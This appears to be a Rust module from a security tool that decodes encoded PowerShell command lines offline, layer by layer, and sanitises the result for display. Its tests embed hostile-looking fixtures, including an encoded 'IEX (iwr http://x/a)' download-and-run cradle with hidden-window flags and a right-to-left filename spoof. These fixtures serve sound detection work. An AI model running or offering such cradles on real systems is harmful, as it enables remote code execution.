//! Encoded PowerShell decoded offline, in-process, never through a shell: `-EncodedCommand` in
//! every abbreviation PowerShell accepts and `FromBase64String('…')` literals, layer by layer
//! when a decoded script carries another encoded script.

use super::b64text::{
    Base64Error, Payload, TextEncoding, as_utf16le, decode_base64, interpret, utf16le_lossy,
};
use super::sanitize::{Sanitized, sanitize_multiline};

/// Deepest nesting followed (legitimate tooling encodes once; eight is far past any sane use).
pub const MAX_LAYERS: usize = 8;
/// Decoded characters kept over all layers; the rest is not decoded.
pub const MAX_OUTPUT_CHARS: usize = 1 << 20;

/// Where a layer's payload was found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Origin {
    /// A `-EncodedCommand` argument; `switch` is the parameter as written (`-eNc`, `/e`).
    EncodedCommand {
        /// The switch as it appeared.
        switch: String,
    },
    /// A `[Convert]::FromBase64String('…')` literal.
    FromBase64String,
}

/// Why a found payload gave no text.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum DecodeError {
    /// Not valid base64.
    #[error(transparent)]
    Base64(#[from] Base64Error),
    /// Valid base64, but the bytes are not UTF-16LE text as `-EncodedCommand` requires.
    #[error("{len} decoded bytes are not UTF-16LE text")]
    NotText {
        /// Number of decoded bytes.
        len: usize,
    },
}

/// One decoded payload.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Layer {
    /// 1 for a payload in the original command line, 2 for one inside that, …
    pub depth: usize,
    /// Where it was found.
    pub origin: Origin,
    /// Length of the base64 payload in characters.
    pub payload_len: usize,
    /// The decoded content, or why there is none.
    pub result: Result<Payload, DecodeError>,
}

impl Layer {
    /// The decoded text, raw (for copying; pass through [`Layer::display`] to show it).
    pub fn text(&self) -> Option<&str> {
        match &self.result {
            Ok(Payload::Text { text, .. }) => Some(text),
            _ => None,
        }
    }

    /// The decoded text sanitised for display, line breaks kept.
    pub fn display(&self) -> Option<Sanitized<'_>> {
        self.text().map(sanitize_multiline)
    }

    /// A one-line heading for the layer, e.g. `layer 2: -enc, UTF-16LE, 1,204 chars`.
    pub fn heading(&self) -> String {
        let from = match &self.origin {
            Origin::EncodedCommand { switch } => super::sanitize_line(switch).text.into_owned(),
            Origin::FromBase64String => "FromBase64String".to_string(),
        };
        let what = match &self.result {
            Ok(Payload::Text { text, encoding }) => format!(
                "{}, {} chars",
                match encoding {
                    TextEncoding::Utf16Le => "UTF-16LE",
                    TextEncoding::Utf8 => "UTF-8",
                },
                super::width::group_thousands(text.chars().count())
            ),
            Ok(Payload::Binary { len, gzip }) => {
                format!("{} binary bytes{}", len, if *gzip { " (gzip)" } else { "" })
            }
            Err(e) => format!("error: {e}"),
        };
        format!("layer {}: {from}, {what}", self.depth)
    }
}

/// Everything decoded from one command line.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Decoding {
    /// Layers in the order found (depth-first).
    pub layers: Vec<Layer>,
    /// True when [`MAX_LAYERS`] or [`MAX_OUTPUT_CHARS`] stopped the decoding.
    pub truncated: bool,
}

impl Decoding {
    /// Deepest layer that decoded to text (2 means an encoded script inside an encoded script).
    pub fn layer_count(&self) -> usize {
        self.layers
            .iter()
            .filter(|l| l.text().is_some())
            .map(|l| l.depth)
            .max()
            .unwrap_or(0)
    }
}

/// Decodes every encoded payload in `command_line`; `None` when it carries none.
pub fn decode(command_line: &str) -> Option<Decoding> {
    let mut out = Decoding::default();
    let mut budget = MAX_OUTPUT_CHARS;
    walk(command_line, 1, &mut out, &mut budget);
    (!out.layers.is_empty()).then_some(out)
}

fn walk(text: &str, depth: usize, out: &mut Decoding, budget: &mut usize) {
    if depth > MAX_LAYERS {
        out.truncated = true;
        return;
    }
    let mut found = encoded_arguments(text);
    found.extend(
        base64_literals(text)
            .into_iter()
            .map(|p| (Origin::FromBase64String, p, false)),
    );
    for (origin, payload, trusted) in found {
        if *budget == 0 {
            out.truncated = true;
            return;
        }
        let result = decode_payload(&origin, &payload, trusted);
        let inner = match &result {
            Ok(Payload::Text { text, .. }) => {
                let n = text.chars().count();
                *budget = budget.saturating_sub(n);
                Some(text.clone())
            }
            _ => None,
        };
        out.layers.push(Layer {
            depth,
            origin,
            payload_len: payload.chars().count(),
            result,
        });
        if let Some(inner) = inner {
            walk(&inner, depth + 1, out, budget);
        }
    }
}

/// `trusted`: PowerShell is named on the line, so the payload is UTF-16LE whatever it holds.
fn decode_payload(origin: &Origin, payload: &str, trusted: bool) -> Result<Payload, DecodeError> {
    let bytes = decode_base64(payload)?;
    match origin {
        Origin::EncodedCommand { .. } if trusted => Ok(Payload::Text {
            text: utf16le_lossy(&bytes),
            encoding: TextEncoding::Utf16Le,
        }),
        Origin::EncodedCommand { .. } => match as_utf16le(&bytes) {
            Some(text) => Ok(Payload::Text {
                text,
                encoding: TextEncoding::Utf16Le,
            }),
            None => Err(DecodeError::NotText { len: bytes.len() }),
        },
        Origin::FromBase64String => Ok(interpret(&bytes)),
    }
}

/// Dashes PowerShell accepts before a parameter name (hyphen, en dash, em dash, horizontal bar).
fn is_dash(c: char) -> bool {
    matches!(c, '-' | '\u{2013}' | '\u{2014}' | '\u{2015}')
}

/// `-e`, `-ec`, `-en`, `-enc` … `-encodedcommand`, any case, with `-`, `--`, `/` or a dash variant.
pub fn is_encoded_command_switch(token: &str) -> bool {
    let mut rest = token.chars();
    match rest.next() {
        Some(c) if is_dash(c) || c == '/' => {}
        _ => return false,
    }
    let mut name = rest.as_str();
    if let Some(c) = name.chars().next()
        && is_dash(c)
    {
        name = &name[c.len_utf8()..];
    }
    let name = name.to_ascii_lowercase();
    !name.is_empty() && ("encodedcommand".starts_with(&name) || name == "ec")
}

/// True for a token naming PowerShell (`powershell.exe`, `"C:\…\pwsh"`, `p^ower^shell`).
fn is_powershell(token: &str) -> bool {
    let t: String = token
        .chars()
        .filter(|&c| c != '^')
        .collect::<String>()
        .to_ascii_lowercase();
    let base = t.rsplit(['\\', '/']).next().unwrap_or(&t);
    base.starts_with("powershell") || base.starts_with("pwsh")
}

/// `(switch, payload, powershell named)` for each encoded-command argument. Without PowerShell named earlier on
/// the line, a short switch such as `-e` only counts when its argument really decodes
/// (`grep -e pattern` is not PowerShell).
fn encoded_arguments(text: &str) -> Vec<(Origin, String, bool)> {
    let tokens = flatten(tokenize(text), 0);
    let mut found = Vec::new();
    let mut seen_powershell = false;
    for (i, tok) in tokens.iter().enumerate() {
        if is_powershell(tok) {
            seen_powershell = true;
            continue;
        }
        if !is_encoded_command_switch(tok) {
            continue;
        }
        let Some(payload) = tokens.get(i + 1) else {
            continue;
        };
        let origin = Origin::EncodedCommand {
            switch: tok.clone(),
        };
        if seen_powershell || decode_payload(&origin, payload, false).is_ok() {
            found.push((origin, payload.clone(), seen_powershell));
        }
    }
    found
}

fn closing_quote(open: char) -> Option<&'static [char]> {
    match open {
        '"' | '“' | '”' | '„' => Some(&['"', '“', '”', '„']),
        '\'' | '‘' | '’' | '‚' => Some(&['\'', '‘', '’', '‚']),
        _ => None,
    }
}

/// Splits on whitespace outside quotes (straight or typographic, as PowerShell accepts); quotes
/// are removed and whitespace inside a quoted payload is kept for the decoder to skip.
fn tokenize(text: &str) -> Vec<String> {
    let mut tokens = Vec::new();
    let mut cur = String::new();
    let mut in_quote: Option<&[char]> = None;
    let mut started = false;
    for c in text.chars() {
        match in_quote {
            Some(close) if close.contains(&c) => in_quote = None,
            Some(_) => cur.push(c),
            None if c.is_whitespace() => {
                if started {
                    tokens.push(std::mem::take(&mut cur));
                    started = false;
                }
            }
            None => {
                started = true;
                match closing_quote(c) {
                    Some(close) => in_quote = Some(close),
                    None => cur.push(c),
                }
            }
        }
    }
    if started {
        tokens.push(cur);
    }
    tokens
}

/// Opens quoted tokens that hold a command of their own (`cmd /c "powershell -e …"`), keeping
/// quoted payloads (base64 with line breaks inside) whole.
fn flatten(tokens: Vec<String>, depth: usize) -> Vec<String> {
    let mut out = Vec::with_capacity(tokens.len());
    for t in tokens {
        if depth < 4 && t.contains(char::is_whitespace) {
            let sub = tokenize(&t);
            if sub
                .iter()
                .any(|s| is_powershell(s) || is_encoded_command_switch(s))
            {
                out.extend(flatten(sub, depth + 1));
                continue;
            }
        }
        out.push(t);
    }
    out
}

/// Payloads of `FromBase64String('…')` / `FromBase64String("…")` literals.
fn base64_literals(text: &str) -> Vec<String> {
    const NEEDLE: &str = "frombase64string";
    let lower = text.to_ascii_lowercase();
    let mut found = Vec::new();
    let mut from = 0;
    while let Some(pos) = lower[from..].find(NEEDLE) {
        let after = from + pos + NEEDLE.len();
        from = after;
        let rest = text[after..].trim_start();
        let Some(rest) = rest.strip_prefix('(') else {
            continue;
        };
        let rest = rest.trim_start();
        let mut chars = rest.chars();
        let Some(close) = chars.next().and_then(closing_quote) else {
            continue;
        };
        let body = chars.as_str();
        if let Some(end) = body.find(|c| close.contains(&c)) {
            found.push(body[..end].to_string());
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::Engine;

    fn enc16(s: &str) -> String {
        let bytes: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn every_abbreviation_and_prefix_is_a_switch() {
        for s in [
            "-e",
            "-ec",
            "-en",
            "-enc",
            "-enco",
            "-EncodedCommand",
            "-ENCODEDCOMMAND",
            "/e",
            "/EC",
            "--enc",
            "\u{2013}enc",
            "\u{2014}e",
            "\u{2015}EnC",
        ] {
            assert!(is_encoded_command_switch(s), "{s}");
        }
        for s in [
            "-ex",
            "-encodeda",
            "-ea",
            "enc",
            "-",
            "/",
            "-encodedcommandx",
            "-command",
            "-ep",
        ] {
            assert!(!is_encoded_command_switch(s), "{s}");
        }
    }

    #[test]
    fn decodes_the_classic_shape() {
        let cmd = format!(
            "powershell.exe -nop -w hidden -enc {}",
            enc16("IEX (iwr http://x/a)")
        );
        let d = decode(&cmd).expect("found");
        assert_eq!(d.layers.len(), 1);
        assert_eq!(d.layers[0].text(), Some("IEX (iwr http://x/a)"));
        assert_eq!(d.layer_count(), 1);
        assert_eq!(
            d.layers[0].origin,
            Origin::EncodedCommand {
                switch: "-enc".into()
            }
        );
    }

    #[test]
    fn decodes_nested_layers_with_count() {
        let inner = format!("powershell -EC {}", enc16("Write-Host pwned"));
        let outer = format!("cmd /c \"PowerShell.EXE /e {}\"", enc16(&inner));
        let d = decode(&outer).expect("found");
        assert_eq!(d.layer_count(), 2);
        assert_eq!(d.layers[1].text(), Some("Write-Host pwned"));
        assert!(d.layers[1].heading().starts_with("layer 2: -EC, UTF-16LE"));
    }

    #[test]
    fn quoted_payload_with_line_breaks_and_missing_padding() {
        let b = enc16("Get-Process");
        let b = b.trim_end_matches('=');
        let (a, z) = b.split_at(6);
        let cmd = format!("pwsh -ENCODEDCOMMAND '{a}\r\n  {z}'");
        let d = decode(&cmd).expect("found");
        assert_eq!(d.layers[0].text(), Some("Get-Process"));
    }

    #[test]
    fn from_base64_string_literals_in_either_encoding() {
        let utf8 = base64::engine::general_purpose::STANDARD.encode("iex $payload");
        let script = format!(
            "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String( \"{utf8}\" )); [convert]::frombase64string('{}')",
            enc16("calc.exe")
        );
        let d = decode(&script).expect("found");
        let texts: Vec<_> = d.layers.iter().filter_map(Layer::text).collect();
        assert_eq!(texts, vec!["iex $payload", "calc.exe"]);
    }

    #[test]
    fn invalid_base64_is_an_error_not_a_panic() {
        let d = decode("powershell -enc SQB!FAFgA").expect("found");
        assert!(matches!(
            d.layers[0].result,
            Err(DecodeError::Base64(Base64Error::InvalidChar {
                ch: '!',
                ..
            }))
        ));
        assert!(d.layers[0].heading().contains("error: invalid base64"));
        assert!(decode("powershell -enc").is_none());
    }

    #[test]
    fn other_tools_short_switches_are_ignored() {
        assert!(decode("grep -e pattern file.txt").is_none());
        assert!(decode("bash -e script.sh").is_none());
    }

    #[test]
    fn decoded_text_is_sanitised_for_display() {
        let cmd = format!(
            "powershell -e {}",
            enc16("echo \x1b]52;c;SGk=\x07 \u{202e}gpj.exe")
        );
        let d = decode(&cmd).expect("found");
        let shown = d.layers[0].display().expect("text");
        assert_eq!(shown.text, "echo ␛]52;c;SGk=␇ ⟨RLO⟩gpj.exe");
        assert!(shown.flags.control && shown.flags.bidi);
    }

    #[test]
    fn nesting_is_bounded() {
        let mut script = "Write-Host bottom".to_string();
        for _ in 0..10 {
            script = format!("powershell -enc {}", enc16(&script));
        }
        let d = decode(&script).expect("found");
        assert!(d.truncated);
        assert_eq!(d.layer_count(), MAX_LAYERS);
    }
}
